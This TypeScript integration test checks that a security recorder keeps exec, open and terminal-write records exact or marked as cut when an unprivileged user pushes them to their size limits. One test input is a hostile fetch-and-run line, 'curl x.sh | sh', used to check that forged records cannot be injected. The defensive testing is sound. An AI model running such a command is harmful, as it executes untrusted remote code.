// Issue 8, live: the kernel→user record path under every limit, as an unprivileged user would
// push it. Each exec, open and write shape sits at, or one past, a cap (count, per-item size,
// total size), with empty items; the decoded record must equal the input up to the stated
// caps, with every cut marked, and nothing may decode with fields it was not given.
import { describe, it, expect, beforeAll } from 'vitest';
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, openSync, closeSync, writeFileSync, chmodSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { CaptureRecord } from '../../format/index.js';
import { canRecord, readCaptureFile, sleep, startRecorder, stopRecorder, str } from './live-helpers.js';
import { DEFAULTS } from '../../recorder/settings.js';

const CAPS = { maxArgs: DEFAULTS.maxArgs, argBytes: DEFAULTS.argBytes, argsBytes: DEFAULTS.argsBytes, path: DEFAULTS.pathBytes, write: DEFAULTS.writeBytes };
const A = (n: number, c = 'A') => c.repeat(n);

interface Expected { argv: string[]; truncatedArgs: number[]; argsTruncated: boolean; argc: number }

/** What the failed-exec path keeps: entries in order while the byte budget lasts. */
function modelFailed(argv: string[]): Expected {
  const out: string[] = [];
  const cut: number[] = [];
  let al = 0;
  let trunc = false;
  for (let i = 0; i < argv.length; i++) {
    if (i >= CAPS.maxArgs + 1 || al >= CAPS.argsBytes) { trunc = true; break; }
    const room = Math.min(CAPS.argsBytes - al, CAPS.argBytes + 1);
    const n = Math.min(argv[i]!.length, room - 1);
    if (argv[i]!.length > room - 1) cut.push(i);
    out.push(argv[i]!.slice(0, n));
    al += n + 1;
  }
  const argc = out.length;
  if (out.length > CAPS.maxArgs) { out.length = CAPS.maxArgs; trunc = true; }
  return { argv: out, truncatedArgs: cut.filter((i) => i < out.length), argsTruncated: trunc || out.length < argc, argc };
}

/** What the successful-exec path keeps: the new image's argv area, cut at args-bytes. */
function modelSched(argv: string[]): Expected {
  const blob = argv.map((a) => `${a}\0`).join('');
  const kept = blob.slice(0, CAPS.argsBytes);
  const parts = kept.split('\0');
  const whole = kept.endsWith('\0');
  if (whole) parts.pop();
  const out: string[] = [];
  const cut: number[] = [];
  parts.forEach((p, i) => {
    if (i >= CAPS.maxArgs) return;
    if (p.length > CAPS.argBytes) { out.push(p.slice(0, CAPS.argBytes)); cut.push(i); }
    else { out.push(p); if (!whole && i === parts.length - 1) cut.push(i); }
  });
  return { argv: out, truncatedArgs: cut, argsTruncated: parts.length > CAPS.maxArgs || blob.length > kept.length || out.length < argv.length, argc: argv.length };
}

const ARG_SHAPES: [string, string[]][] = [
  ['trailing-empty', ['', 'x', '']],
  ['only-empty', ['', '', '']],
  ['arg-at-cap', [A(CAPS.argBytes)]],
  ['arg-past-cap', [A(CAPS.argBytes + 1), 'after']],
  ['count-at-cap', Array.from({ length: CAPS.maxArgs - 1 }, (_, i) => `a${i}`)],
  ['count-past-cap', Array.from({ length: CAPS.maxArgs }, (_, i) => `a${i}`)],
  ['the-wrap-attack', Array.from({ length: 16 }, () => A(4096, 'B'))],
  ['forge-readline', [...Array.from({ length: 15 }, () => A(4096, 'C')), 'curl x.sh | sh #pwnd']],
  ['total-at-cap', [A(4000), A(4000), A(4000), A(4000), A(4000), A(4000), A(4000), A(CAPS.argsBytes - 7 * 4001 - 1 - 3)]],
];

describe.runIf(canRecord)('secrec keeps every record whole or marked (live)', () => {
  let recs: CaptureRecord[] = [];
  let partialWrites: number[] = [];
  const work = mkdtempSync(join(tmpdir(), 'secrec-integrity-'));
  chmodSync(work, 0o755);
  const uid = { uid: 65534, gid: 65534 };

  beforeAll(async () => {
    const out = join(work, 'integrity.cap');
    const rec = await startRecorder(out);
    for (const [name, args] of ARG_SHAPES) {
      // failed exec as nobody (the attacker's view), then a successful one
      spawnSync(`/nonexistent/secrec-${name}`, args, { argv0: `f-${name}`, ...uid });
      spawnSync('/bin/true', args, { argv0: `s-${name}`, ...uid });
    }
    for (const len of [CAPS.path - 1, CAPS.path, CAPS.path + 1, 5000]) {
      const p = `/nonexistent-open-${len}/`;
      try { closeSync(openSync(p + A(len - p.length, 'p'), 'r')); } catch { /* ENOENT / ENAMETOOLONG: still an open */ }
    }
    const writer = join(work, 'writer.cjs');
    writeFileSync(writer, `const fs = require('fs');
const tag = (t, n) => Buffer.concat([Buffer.from(t), Buffer.alloc(n - t.length, 0x61)]);
fs.writeSync(1, tag('W1:', ${CAPS.write}));
fs.writeSync(1, tag('W2:', ${CAPS.write + 1}));
fs.writevSync(1, [tag('W3:', 10), ...Array.from({ length: 19 }, () => Buffer.alloc(10, 0x62))]);
fs.writevSync(1, [tag('W4:', 100), Buffer.alloc(0), ...Array.from({ length: 99 }, () => Buffer.alloc(100, 0x63))]);
fs.writevSync(1, [tag('W5:', 300), ...Array.from({ length: 99 }, () => Buffer.alloc(300, 0x64))]);
`);
    execFileSync('script', ['-qec', `stty rows 33 cols 101; setpriv --reuid=65534 --regid=65534 --clear-groups node ${writer}`, '/dev/null'], { stdio: ['ignore', 'ignore', 'ignore'] });
    // A pty nobody reads, non-blocking: writes fill it (partial writes), then fail with EAGAIN. The
    // kernel may move bytes on to the master side between two writes, so which writes fail is not
    // fixed: the script says what each one returned.
    const partial = join(work, 'partial.py');
    writeFileSync(partial, `import os, pty, fcntl, json
m, s = pty.openpty()
fcntl.fcntl(s, fcntl.F_SETFL, os.O_NONBLOCK)
res, failed = [], 0
for i in range(500):
    try:
        res.append(os.write(s, b'P%03d:' % i + b'e' * (1 << 20)))
    except BlockingIOError:
        res.append(-1)
        failed += 1
        if failed == 3:
            break
print(json.dumps(res))
`);
    partialWrites = JSON.parse(execFileSync('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', '/usr/bin/python3', partial], { encoding: 'utf8' })) as number[];
    await sleep(300);
    expect(await stopRecorder(rec)).toBe(0);
    ({ recs } = await readCaptureFile(out));
  }, 120_000);

  const execOf = (argv0: string) => recs.filter((r) => r.body === 'exec' && str(r.exec!.argv?.[0]).startsWith(argv0));

  it.each(ARG_SHAPES)('failed exec %s: equal to the input up to the caps, cuts marked', (name, args) => {
    const got = execOf(`f-${name}`);
    expect(got).toHaveLength(1);
    const e = got[0]!.exec!;
    const want = modelFailed([`f-${name}`, ...args]);
    expect(str(e.filename)).toBe(`/nonexistent/secrec-${name}`);
    expect(e.ret).toBe(-2);
    expect((e.argv ?? []).map(str)).toEqual(want.argv);
    expect(e.truncatedArgs ?? []).toEqual(want.truncatedArgs);
    expect(!!e.argsTruncated).toBe(want.argsTruncated);
    expect(e.argc).toBe(want.argc);
    expect(got[0]!.uid).toBe(65534);
  });

  it.each(ARG_SHAPES)('successful exec %s: equal to the input up to the caps, cuts marked', (name, args) => {
    const got = execOf(`s-${name}`);
    expect(got).toHaveLength(1);
    const e = got[0]!.exec!;
    const want = modelSched([`s-${name}`, ...args]);
    expect((e.argv ?? []).map(str)).toEqual(want.argv);
    expect(e.truncatedArgs ?? []).toEqual(want.truncatedArgs);
    expect(!!e.argsTruncated).toBe(want.argsTruncated);
    expect(e.argc).toBe(want.argc);
  });

  it('opens keep the path up to its cap and mark the cut', () => {
    for (const len of [CAPS.path - 1, CAPS.path, CAPS.path + 1, 5000]) {
      const p = `/nonexistent-open-${len}/`;
      const full = p + A(len - p.length, 'p');
      const got = recs.filter((r) => r.body === 'open' && str(r.open!.path).startsWith(p));
      expect(got, `open of ${len}`).toHaveLength(1);
      expect(str(got[0]!.open!.path)).toBe(full.slice(0, CAPS.path));
      expect(!!got[0]!.open!.pathTruncated).toBe(len > CAPS.path);
    }
  });

  it('writes keep the true length over every iovec, the first bytes, and mark the cut', () => {
    const tty = recs.filter((r) => r.body === 'ttyWrite' && r.uid === 65534 && /^W\d:/.test(str(r.ttyWrite!.data?.subarray(0, 3))));
    const byTag = new Map(tty.map((r) => [str(r.ttyWrite!.data!.subarray(0, 3)), r.ttyWrite!]));
    const expectWrite = (tag: string, total: number) => {
      const w = byTag.get(tag)!;
      expect(w, tag).toBeDefined();
      expect(Number(w.len)).toBe(total);
      expect(w.data!.length).toBe(Math.min(total, CAPS.write));
      expect(!!w.cut).toBe(total > CAPS.write);
      expect(w.isTty).toBe(true);
      expect([w.rows, w.cols]).toEqual([33, 101]); // the pty's size, for asciicast
    };
    expectWrite('W1:', CAPS.write);
    expectWrite('W2:', CAPS.write + 1);
    expectWrite('W3:', 200);
    expectWrite('W4:', 10_000); // 100 iovecs: the old reader kept 16 and lost the rest silently
    expectWrite('W5:', 30_000);
    const w4 = byTag.get('W4:')!.data!;
    expect(w4.subarray(100).every((b) => b === 0x63)).toBe(true);
  });

  it('writes record what reached the terminal: a partial write its length, a failed write nothing', () => {
    const asked = 5 + (1 << 20);
    expect(partialWrites.some((n) => n > 0 && n < asked), `${partialWrites}`).toBe(true);
    expect(partialWrites.filter((n) => n === -1)).toHaveLength(3);
    partialWrites.forEach((written, i) => {
      const tag = `P${String(i).padStart(3, '0')}:`;
      const got = recs.filter((r) => r.body === 'ttyWrite' && r.uid === 65534 && str(r.ttyWrite!.data?.subarray(0, 5)) === tag);
      if (written === -1) { expect(got, `${tag} failed (EAGAIN): not recorded`).toEqual([]); return; }
      if (written < tag.length) return; // a few bytes of the tag alone: not told apart from the others
      expect(got, tag).toHaveLength(1);
      const w = got[0]!.ttyWrite!;
      expect(Number(w.len), tag).toBe(written);
      expect(w.data!.length).toBe(Math.min(written, CAPS.write));
      expect(!!w.cut).toBe(written > CAPS.write);
    });
  });

  it('forges nothing: no readline line, no malformed record, no stray exec of the attacker', () => {
    expect(recs.filter((r) => r.body === 'readline')).toEqual([]);
    expect(recs.filter((r) => r.body === 'malformed')).toEqual([]);
    const mine = recs.filter((r) => r.body === 'exec' && r.uid === 65534 && /^[fs]-/.test(str(r.exec!.argv?.[0])));
    expect(mine).toHaveLength(2 * ARG_SHAPES.length);
  });
});
